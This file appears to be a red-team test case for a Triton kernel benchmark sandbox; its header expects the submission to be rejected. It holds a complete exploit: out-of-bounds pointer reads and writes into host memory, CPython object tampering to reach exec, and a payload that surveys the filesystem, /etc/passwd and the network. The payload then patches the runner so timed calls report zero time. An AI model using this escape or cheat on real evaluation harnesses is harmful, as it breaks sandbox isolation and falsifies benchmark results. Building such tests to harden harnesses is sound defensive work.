"""Reads and writes the runner's own memory through a kernel's pointer arithmetic (interpreted,
a pointer is a host address): a function's repr gives its address, from it the builtins, and
from them exec, which would patch the runner so that timed calls do nothing and the work is done
when outputs are fetched. Interpreted launches touch only their tensors' memory (compiled ones
address the GPU, where a host address is an illegal access): the import fails."""
# expect: compile_error | outside every tensor its launch was given
# expect-gpu: compile_error |
# base: yes


@triton.jit
def _peek(base_ptr, out_ptr, delta):
    tl.store(out_ptr, tl.load(base_ptr + delta))


@triton.jit
def _poke(base_ptr, delta, val):
    tl.store(base_ptr + delta, val)


def _rd(addr):
    out = torch.zeros(1, dtype=torch.int64)
    _peek[(1,)](out, out, (addr - out.data_ptr()) // 8)
    return out.item()


def _wr(addr, val):
    buf = torch.zeros(1, dtype=torch.int64)
    _poke[(1,)](buf, (addr - buf.data_ptr()) // 8, val)


_PAYLOAD = "\n".join([
    "import sys, os, socket, torch",
    "print('RT-RECON uid', os.getuid(), 'cwd', os.getcwd(), 'root', sorted(os.listdir('/')))",
    "for p in ('/work', '/work/main', '/work/main/.venv', '/tmp', '/proc/1/cmdline', '/etc/passwd', '/etc/hostname', '/root'):",
    "    print('RT-RECON', p, os.path.exists(p), (sorted(os.listdir(p))[:15] if os.path.isdir(p) else ''))",
    "s = socket.socket()",
    "s.settimeout(1)",
    "print('RT-RECON net', s.connect_ex(('1.1.1.1', 53)))",
    "R = sys.modules['__main__'].Runner",
    "orig_fetch = R.op_fetch",
    "pend = {}",
    "de" + "f lazy_timed(self, calls, starts, ends):",
    "    times = []",
    "    for cid, (args, kwargs) in calls:",
    "        w, off = args[0], args[2]",
    "        self.outputs[cid] = [torch.empty((off.numel() - 1, w.shape[1]), dtype=w.dtype, device=w.device)]",
    "        pend[cid] = (args, kwargs)",
    "        times.append(0.0)",
    "    return times",
    "de" + "f lazy_fetch(self, message, fds):",
    "    for item in message['items']:",
    "        cid = int(item['call'])",
    "        if cid in pend:",
    "            args, kwargs = pend.pop(cid)",
    "            self.outputs[cid] = [self.fn(*args, **kwargs)]",
    "    return orig_fetch(self, message, fds)",
    "R._timed = lazy_timed",
    "R.op_fetch = lazy_fetch",
    "print('RT-RECON runner patched')",
])

def _box(x=None):
    return x


def _where(f):
    return int(repr(f).split(" at ")[1].strip(">"), 16)  # no id(): a function's repr shows it


_dict = _rd(_where(_rd) + 24)  # PyFunctionObject.func_builtins (3.11): the builtins dict
_defaults = _rd(_where(_box) + 56)  # PyFunctionObject.func_defaults: the tuple (None,)
_wr(_dict, _rd(_dict) + 1)  # a reference for the tuple slot
_wr(_defaults + 24, _dict)  # PyTupleObject.ob_item[0]
_run = _box().get("exec")
_run(_PAYLOAD, {})


def embedding_bag(weight, indices, offsets, *, mode="sum", per_sample_weights=None):
    out = torch.empty((offsets.numel() - 1, weight.shape[1]), dtype=weight.dtype, device=weight.device)
    return _launch(weight, indices, offsets, out, mode, per_sample_weights)
